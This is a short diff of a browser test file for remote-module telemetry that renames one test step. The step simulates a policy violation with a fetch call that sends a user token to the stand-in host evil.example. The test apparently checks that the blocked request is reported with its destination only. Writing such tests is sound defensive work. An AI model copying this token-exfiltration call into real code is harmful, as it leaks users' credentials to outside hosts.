@@ -49,7 +49,7 @@ test('it is told how remotes load and fail, and nothing of the person @FED-8', a
         expect.objectContaining({ remote: 'payment', outcome: 'failed', phase: 'entry' }),
       );
   });
-  await test.step('What the policy refuses is told with where it would have gone, and no more', async () => {
+  await test.step('a policy violation is reported with its destination only', async () => {
     await page.evaluate(
       (token) => fetch(`https://evil.example/take?token=${token}`).catch(() => undefined),
       person.token,
